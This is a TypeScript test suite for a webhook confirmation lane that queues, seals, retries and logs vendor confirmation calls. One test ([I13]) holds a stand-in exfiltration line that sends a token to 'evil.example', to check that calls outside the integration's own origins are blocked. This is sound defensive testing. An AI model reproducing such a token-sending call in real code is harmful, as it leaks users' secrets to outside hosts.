import { describe, expect, it } from "vitest";
import { at, get } from "../../src/contract/call.ts";
import type { Handshake } from "../../src/contract/challenge.ts";
import type { Hook } from "../../src/contract/integration.ts";
import { informed } from "../../src/contract/outcome.ts";
import { askFor } from "../../src/intake/confirm.ts";
import { confirmationPlace } from "../../src/lanes/confirmation.ts";
import type { Claimed } from "../../src/platform/store/lanes.ts";
import { ok } from "../../src/result.ts";
import { proven } from "../support/proven.ts";
import { bench, DAY, LANE, NOW, SOURCE, TIMED_OUT } from "./samples.ts";

const handshake: Handshake = {
  source: SOURCE,
  find: ({ text }) => (text.startsWith("ask ") ? text.slice(4) : undefined),
  *run(token) {
    const reply = yield get(at`https://api.acme.example/confirm?token=${{ token }}`, {});
    return reply.status === 200 ? informed : { outcome: "unforeseen", status: reply.status, what: "no" };
  },
  withinHours: 48,
};
const hook: Hook = {
  source: SOURCE,
  verify: { scheme: "shared-secret", key: "apiKey", at: { header: "x-key" } },
  contentTypes: ["text/plain"],
  read: () => ok([]),
  authority: {},
  handshake,
  retriesForHours: 1,
  events: ["ask"],
};

/** A gateway's lane, and what intake put into it. */
async function lane(declared: Partial<Hook> = {}) {
  const put: Claimed[] = [];
  const made = await bench({ hooks: { events: { ...hook, ...declared } } });
  const woken: string[] = [];
  const facts: Record<string, unknown>[] = [];
  Object.assign(made.ports, {
    wake: async (lanes: readonly string[]) => void woken.push(...lanes),
    log: (event: string, said: object) => void facts.push({ event, ...said }),
  });
  Object.assign(made.ports.store, {
    askFor: async (_: string, __: string, { order: id, payload }: { order: string; payload: string }) => {
      const isNew = put.every((each) => each.id !== id);
      if (isNew) put.push({ id, attempt: 1, payload, cursor: "", learned: [], joint: [] });
      return isNew;
    },
  });
  const subprocessor = made.context.tenant.subprocessors.acme;
  const integration = made.ports.integrations.get("acme");
  if (subprocessor === undefined || integration === undefined) throw new Error("the bench has no acme");
  const found = {
    context: made.context,
    subprocessor,
    integration,
    endpoint: "events",
    hook,
    values: async () => [],
  };
  const ask = (text: string) => askFor(made.ports, found, handshake, proven(text));
  const asked = async (text = "ask token-1"): Promise<Claimed> => {
    await ask(text);
    const order = put.at(-1);
    if (order === undefined) throw new Error("nothing was asked");
    return order;
  };
  return { ...made, ask, asked, put, woken, facts };
}

describe("a call that a delivery asks for", () => {
  it("[I1] is an order of its lane before the delivery is accepted, once for each thing that is asked", async () => {
    const { ask, put, woken, calls, facts } = await lane();
    await ask("something else");
    await ask(`ask ${"x".repeat(2049)}`);
    expect(put).toEqual([]);
    await ask("ask token-1");
    await ask("ask token-1");
    await ask("ask token-2");
    expect(put.map(({ id }) => id)).toEqual([expect.stringMatching(/^confirm:events:[a-z2-7]{26}$/), put[1]?.id]);
    expect(put[0]?.id).not.toBe(put[1]?.id);
    expect(woken).toEqual([LANE, LANE]);
    expect(calls).toEqual([]);
    expect(facts[0]).toEqual({ event: "confirmation_asked", tenant: "acme", subprocessor: "acme", endpoint: "events" });
  });

  it("[I7] lies there sealed, and bound to its place", async () => {
    const { asked, context } = await lane();
    const order = await asked();
    expect(JSON.stringify(order)).not.toContain("token-1");
    const { key, sealed, deadline } = JSON.parse(order.payload);
    expect(deadline).toBe(NOW + 2 * DAY);
    const place = confirmationPlace("acme", order.id);
    expect(await (await context.keys.unwrap(place, key)).open(place, sealed)).toBe("token-1");
    await expect(context.keys.unwrap(confirmationPlace("other", order.id), key)).rejects.toThrow();
  });

  it("is called from the lane, and ends when it was heard", async () => {
    const { asked, work, calls, facts } = await lane();
    const order = await asked();
    const { settlements, rest } = await work([order], [{ status: 200 }]);
    expect(settlements).toMatchObject([{ id: order.id, what: "drop" }]);
    expect(rest).toBe(0);
    expect(calls.map(({ at }) => at.url)).toEqual(["https://api.acme.example/confirm?token=token-1"]);
    expect(facts.at(-1)).toMatchObject({ event: "confirmation_made", endpoint: "events" });
    expect(JSON.stringify(facts)).not.toContain("token-1");
  });

  it.each([
    ["a time-out", TIMED_OUT, 1],
    ["trouble of the vendor's own", { status: 503 }, 0],
    ["a request to go slower", { status: 429, headers: { "retry-after": "60" } }, 0],
  ])("[I2] comes back after %s, until it is too late", async (_, answer, timeouts) => {
    const { asked, work, pass, facts, calls } = await lane();
    const order = await asked();
    const first = await work([order], [answer]);
    expect(first.settlements).toMatchObject([{ id: order.id, what: "back", deadline: NOW + 2 * DAY }]);
    expect(first.timeouts).toBe(timeouts);
    pass(2 * DAY);
    const late = await work([{ ...order, attempt: 9, cursor: "8" }], []);
    expect(late.settlements).toMatchObject([{ what: "drop" }]);
    expect(calls).toHaveLength(1);
    expect(facts.at(-1)).toMatchObject({ event: "confirmation_given_up", reason: "too_late" });
  });

  it("is given up where the vendor refuses it, which is said, and does not stop the lane", async () => {
    for (const [status, reason] of [
      [400, "unforeseen 400"],
      [401, "credential"],
    ] as const) {
      const { asked, work, facts, order } = await lane();
      const { settlements, rest } = await work([await asked(), await order("ada")], [{ status }, { status: 204 }]);
      expect(settlements.map(({ what }) => what).toSorted()).toEqual(["drop", "end"]);
      expect(rest).toBe(0);
      expect(facts.find(({ event }) => event === "confirmation_given_up")).toMatchObject({ reason });
    }
  });

  it("[I13] goes to the integration's own origins only", async () => {
    const { asked, work, calls, facts } = await lane({
      handshake: {
        ...handshake,
        *run(token) {
          yield get(at`https://evil.example/${{ token }}`, {});
          return informed;
        },
      },
    });
    expect((await work([await asked()], [])).settlements).toMatchObject([{ what: "drop" }]);
    expect(calls).toEqual([]);
    expect(facts.at(-1)).toMatchObject({ event: "confirmation_given_up", reason: "forbidden_address" });
  });

  it("is given up where the hook is gone, and comes back where it does not open", async () => {
    const { asked, work, facts } = await lane();
    const order = await asked();
    const elsewhere = { ...order, id: order.id.replace("events", "gone") };
    expect((await work([elsewhere], [])).settlements).toMatchObject([{ what: "drop" }]);
    expect(facts.at(-1)).toMatchObject({ event: "confirmation_given_up", reason: "no_hook" });
    const moved = { ...order, id: `${order.id.slice(0, -1)}_` };
    expect((await work([moved], [])).settlements).toMatchObject([{ what: "back" }]);
    expect(facts.at(-1)).toMatchObject({ event: "step_failed" });
  });

  it("goes back untouched, in its own place, when the lane rests already", async () => {
    const made = await lane();
    const order = await made.asked();
    const { settlements } = await made.work(
      [await made.order("ada"), order],
      [{ status: 429, headers: { "retry-after": "60" } }],
    );
    expect(settlements.find(({ id }) => id === order.id)).toMatchObject({ what: "back", deadline: NOW + 2 * DAY });
  });
});
